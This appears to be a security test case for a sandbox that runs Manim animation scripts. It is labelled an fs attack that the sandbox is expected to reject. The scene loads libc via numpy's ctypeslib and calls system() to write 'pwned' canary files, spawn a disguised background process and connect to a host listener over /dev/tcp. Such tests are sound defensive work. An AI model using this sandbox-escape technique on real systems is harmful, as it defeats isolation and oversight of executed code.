# category: fs
# attack: np.ctypeslib.load_library loads libc and calls system() to write canaries, spawn a marker daemon and connect to the host listener
# expect: any
# policy: reject
import numpy as np

from manim import *

TARGETS = HOSTILE_TARGETS


class CtypesSystem(Scene):
    def construct(self):
        libc = np.ctypeslib.load_library("libc.so.6", "/usr/lib/x86_64-linux-gnu")
        script = "; ".join(f"echo pwned > '{t}'" for t in TARGETS)
        script += f"; (exec -a {HOSTILE_MARKER} sleep 300 &) ; echo hi > /dev/tcp/127.0.0.1/{HOSTILE_PORT}"
        rc = libc.system(("bash -c \"" + script + "\"").encode())
        print("system rc", rc)
        self.play(FadeIn(Square()), run_time=0.3)
